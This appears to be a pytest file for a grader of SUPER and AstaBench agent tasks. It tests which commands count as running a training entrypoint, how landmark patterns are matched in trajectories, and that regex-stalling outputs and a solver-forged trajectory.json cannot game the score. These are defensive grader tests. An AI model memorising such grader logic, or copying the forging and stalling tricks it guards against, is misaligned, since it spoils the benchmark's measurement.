    ("!python train.py", "train.py", True),
    ("python3.10 -u -W ignore src/train.py --lr 1e-5", "train.py", True),
    ("python -m train", "train.py", True),
    ("python -m src.train", "train.py", True),
    ("python -m pip install -r requirements.txt", "train.py", False),
    ("python -c 'import train' train.py", "train.py", False),
    ("(cd src; python train.py)", "train.py", True),
    ("if python train.py; then echo ok; fi", "train.py", True),
    ("env A=1 nohup time python train.py > log", "train.py", True),
    ("bash -lc 'cd y && python train.py 2>&1 | tail'", "train.py", True),
    ("torchrun --nproc_per_node 2 train.py --epochs 1", "train.py", True),
    ("python -m torch.distributed.launch --nproc_per_node=2 train.py", "train.py", True),
    ("conda run -n env python train.py", "train.py", True),
    ("timeout -s KILL 1800 python train.py", "train.py", True),
    ("conda install run train.py", "train.py", False),
    ("uv run train.py", "train.py", True),
    ("python train.py &", "train.py", False),
    ("python train.py.bak", "train.py", False),
    ("cat train.py; head -n 5 train.py; grep main train.py", "train.py", False),
    ("python other.py --config train.py", "train.py", False),
    ("bash scripts/run.sh", "run.sh", True),
    ("./scripts/run.sh --fast", "run.sh", True),
    ("sh -x run.sh", "run.sh", True),
    ("source run.sh", "run.sh", True),
    ("chmod +x run.sh", "run.sh", False),
    ("python 'unbalanced train.py", "train.py", False),
])
def test_what_counts_as_running_the_entrypoint(command, name, runs) -> None:
    assert RULE.invokes(command, name) is runs


def test_parsing_the_commands_is_bounded() -> None:
    """Commands are parsed with shlex: only lines naming the script, none over 16 KiB, 1 MiB in all."""
    import time

    assert RULE.invokes("python train.py " + "x" * RULE.MAX_COMMAND_LINE_CHARS, "train.py") is False
    run = {"command": "cat train.py " + "x " * 1500, "output": "", "strict": True, "failed": False, "timed": False,
           "seconds": None}
    cpu = time.process_time()
    assert RULE._entrypoint("train.py", [{"observation": "", "runs": [run]}] * 2000) == (0.0, None, True)
    assert time.process_time() - cpu < 3


def test_a_history_step_keeps_upstreams_rule() -> None:
    """SUPER's and AstaBench's history carry measured run times: their steps count exactly as upstream's."""
    assert RULE.entrypoint_ran("train.py", RULE.read_trajectory(_history("!cat train.py", "x", 12))) == (1.0, True)
    assert RULE.entrypoint_ran("train.py", RULE.read_trajectory(_history("!python train.py", "x", 9))) == (0.0, None)


def test_an_expert_record_without_an_answer_points_to_the_auto_split(tmp_path: Path) -> None:
    from sab.importers.super import import_super

    source = write_super(tmp_path / "expert.jsonl", [AUTO_RECORDS[0], SUPER_RECORDS[0]])
    result = import_super(make_repo(tmp_path / "repo") / "tasks", source, org="testorg")
    (skipped,) = result.skipped
    assert "no gold answer: the Expert split scores the answer" in skipped.reason and "--split Auto" in skipped.reason


def test_landmarks_are_reported_where_a_trajectory_is_supplied(imported: Path, tmp_path: Path) -> None:
    gold = '{"acc": 0.5, "loss": 1.25}'
    flat = _grade_with(imported, "toy-dict", tmp_path, answer=gold,
                       trajectory=_history("!python train.py", "Epoch 1: loss 1.25", 12))
    assert (flat["reward"], flat["landmarks"], flat["trajectory"]) == (1.0, 1.0, 1.0)  # never part of the reward
    flat = _grade_with(imported, "toy-dict", tmp_path, answer=gold, trajectory={"history": _history("!ls", "nothing", 1)})
    assert (flat["reward"], flat["landmarks"]) == (1.0, 0.0)
    flat = _grade_with(imported, "toy-dict", tmp_path, answer=gold)
    assert flat["trajectory"] == 0.0 and "landmarks" not in flat
    flat = _grade_with(imported, "toy-dict", tmp_path, answer=gold, trajectory={"not": "a trajectory"})
    assert flat["trajectory"] == 0.0 and flat["reward"] == 1.0
    (tmp_path / "t.json").write_text(json.dumps(_history("!python run.py", "Epoch 1", 12)))
    (tmp_path / "a.json").write_text(gold)
    done = run_sab("grade", "tasks/super/toy-dict", "--answer", str(tmp_path / "a.json"), "--trajectory",
                   str(tmp_path / "t.json"), "--json", cwd=imported)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["landmarks"] == 1.0


def test_only_the_runner_names_the_trajectory(imported: Path, tmp_path: Path) -> None:
    """A trajectory.json the solver leaves in /app is never read; the one the grader names (SAB_TRAJECTORY) is."""
    leaf = imported / "tasks/super/toy-dict"
    source = tmp_path / "app"
    source.mkdir()
    (source / "answer.json").write_text('{"acc": 0.5, "loss": 1.25}')
    (source / "trajectory.json").write_text(json.dumps(_history("!python run.py", "Epoch 1", 12)))
    runner_record = tmp_path / "logs/agent/trajectory.json"
    runner_record.parent.mkdir(parents=True)
    runner_record.write_text(json.dumps(_history("!ls", "nothing", 1)))
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path)}
    for name, extra in (("forged", {}), ("grader", {"SAB_TRAJECTORY": str(runner_record)})):
        subprocess.run(["bash", str(leaf / "tests/test.sh"), "produce", str(source), str(tmp_path / name), "nominal"],
                       check=True, timeout=60, env={**env, **extra})
    assert not (tmp_path / "forged/answer/trajectory.json").exists()
    assert (tmp_path / "grader/answer/trajectory.json").read_text() == runner_record.read_text()


def test_the_pre_executed_cells_count_for_landmarks_as_in_supers_history(tmp_path: Path) -> None:
    """SUPER's history begins with the pre-executed cells: their outputs can hold a landmark."""
    repo = make_repo(tmp_path / "repo")
    record = {**_masked_record(), "answer": record_of("acqsurvey")["answer"]}
    run_sab("import", "super", "--from", str(_one_record_file(tmp_path, [record])), "--split", "Masked",
            cwd=repo, check=True)
    check = repo / "tasks/super/acqsurvey_data/tests/checks/answer"
    for side in ("reference", "candidate"):
        (tmp_path / side).mkdir()
        (tmp_path / side / "answer.json").write_text(record["answer"])
    (tmp_path / "candidate/trajectory.json").write_text(json.dumps(_history("!ls", "nothing", 1)))
    (tmp_path / "candidate/pre-executed.json").write_text(json.dumps(
        _history("!python ranking_approaches.py", "Indexing the document of clarification questions", 11)))
    out = tmp_path / "result.json"
    assert RULE.main(["--reference", str(tmp_path / "reference"), "--candidate", str(tmp_path / "candidate"),
                      "--rubric", str(check / "rubric.json"), "--out", str(out)]) == 0
    metrics = json.loads(out.read_text())["metrics"]
    assert (metrics["landmarks"], metrics["entrypoint"], metrics["output_match"]) == (1.0, 1.0, 1.0)


# ---------------------------------------------------------------- landmark search: upstream's results, bounded work


def upstream_checkpoints(landmarks: list[str], outputs: list[str]) -> int:
    """super-benchmark's evaluate_checkpoints restated: how many patterns re.search finds in some
    output, newlines read as spaces, no flags."""
    import re

    return sum(any(re.search(pattern, output.replace("\n", " ")) for output in outputs) for pattern in landmarks)


def _training_log(epochs: int = 3) -> str:
    """A long, honest training log: progress bars redrawn with carriage returns, a line per step."""
    parts = ["Loading data from /content/y/data\n", "***** Running training *****\n"]
    for epoch in range(1, epochs + 1):
        parts.append(f"Epoch {epoch}/{epochs}\n")
        parts.append("".join(f"\r{p}%|{'#' * (p // 10)}| {p}/100 [00:{p:02d}<00:00]" for p in range(101)) + "\n")
        parts += [f"{{'loss': 0.{500 - step}, 'learning_rate': 3e-05}}\n" for step in range(400)]
        parts.append(f"Saving model checkpoint to out/checkpoint-{epoch * 500}\n")
        parts.append("eval_loss: nan\n" if epoch == 1 else "eval_loss: 0.42\n")
    metrics = [f"'m{index}': 0.{index:04d}" for index in range(800)]  # one line of 13 KB
    parts.append("{" + ", ".join(metrics[:400] + ["'f1': 0.7712"] + metrics[400:]) + "}\n")
    parts.append("accuracy = 0.8123")
    return "".join(parts)


HONEST_LANDMARKS = [
    r"Epoch 1/\d+", r"\*\*\*\*\* Running training \*\*\*\*\*", r"Saving model checkpoint to \S+",
    r"\{'loss': \d\.\d+", r"^Loading data", r"^Epoch", r"accuracy = 0\.\d+$", r"eval_loss: nan$", r"100%\|#+\| 100/100",
    r"\bcheckpoint-\d+\b", r"(?<=Saving )model", r"eval_loss(?!: nan)", r"Epoch 1/\d+.*Epoch 3/3.*accuracy = 0\.81",
    r"Running training.*Epoch 2/3", r"not in the log", r"done$", r"checkpoint-1500 eval_loss", r"'f1': 0\.7\d+",
]


def test_landmarks_are_found_as_upstream_finds_them_in_honest_outputs() -> None:
    log = _training_log()
    outputs = ["Cloning into 'y'...\ndone", log, "x" * 9000 + " Epoch 7/9 " + "y" * 9000, "Epoch 5/5 done\n"]
    assert len(log) > 4 * RULE.WHOLE_OUTPUT_CHARS
    steps = [{"observation": output, "runs": []} for output in outputs]
    for pattern in HONEST_LANDMARKS:
        for chosen in (outputs, outputs[1:2], outputs[2:]):
            found = RULE.find_landmarks([pattern], [{"observation": output, "runs": []} for output in chosen])
            assert (found["found"], found["undecided"]) == (upstream_checkpoints([pattern], chosen), 0), (pattern, chosen[0][:20])
    result = RULE.find_landmarks(HONEST_LANDMARKS, steps)
    assert result["found"] == upstream_checkpoints(HONEST_LANDMARKS, outputs) and result["undecided"] == 0


def test_a_crafted_output_cannot_stall_the_landmark_search() -> None:
    """A backtracking pattern over a solver-written output: quadratic upstream, bounded here."""
    import time

    pattern = r"Epoch \d+/\d+.*loss"
    one_line = {"observation": "Epoch 1/3 " * 30000, "runs": []}  # 300 KB, one line
    # The windows search 2 x 2 KiB of the line; the whole-output pass is then cut by its time share.
    assert RULE.find_landmarks([pattern], [one_line], whole_seconds=0) == {
        "found": 0, "undecided": 1, "searched": 2 * RULE.LINE_WINDOW_CHARS}
    crafted = [one_line, {"observation": "Epoch 1/3\n" * 30000, "runs": []},
               {"observation": ("Epoch 1/3 " * 409 + "\n") * 75, "runs": []}]
    for output in crafted:
        cpu, wall = time.process_time(), time.monotonic()
        result = RULE.find_landmarks([pattern, r"saving model"], [output, {"observation": "saving model", "runs": []}])
        # CPU time shows the work is bounded; the wall clock only that the budget ends the search (a
        # stalled search runs for minutes), with room for a machine at a load of 8.
        assert time.process_time() - cpu < 2 and time.monotonic() - wall < RULE.LANDMARK_SECONDS + 10
        assert (result["found"], result["undecided"]) == (1, 1)  # the other landmark is still found
    # However large the input, the search stops at its budget.
    wall = time.monotonic()
    huge = {"observation": ("Epoch 1/3 " * 409 + "\n") * 2000, "runs": []}  # 8 MB of windows that all backtrack
    assert RULE.find_landmarks([pattern], [huge], seconds=0.5)["undecided"] == 1
    assert time.monotonic() - wall < 10


def test_a_crafted_trajectory_is_graded_promptly_and_says_what_was_not_decided(tmp_path: Path) -> None:
    import time

    for side in ("reference", "candidate"):
        (tmp_path / side).mkdir()
        (tmp_path / side / "answer.json").write_text('{"accuracy": 0.8123}')
    (tmp_path / "candidate/trajectory.json").write_text(json.dumps(
        [{"action": {"type": "execute", "content": "!python train.py"}, "observation": "Epoch 1/3 " * 30000,
          "execution_start_time": "2024-08-20T10:00:00", "execution_end_time": "2024-08-20T10:00:30"}]))
    scoring = {"split": "Expert", "reading": "asta", "float_epsilon": 0.01, "entrypoint": "",
               "landmarks": [r"Epoch \d+/\d+.*loss", r"Epoch 1/3"]}
    cpu = time.process_time()
    score, passed, reason, metrics = RULE.verdict(str(tmp_path / "reference"), str(tmp_path / "candidate"), scoring)
    assert time.process_time() - cpu < 2
    assert (score, metrics["landmarks"], metrics["landmarks_undecided"]) == (1.0, 0.5, 1)
    assert "1 landmark not decided within the search budget" in reason
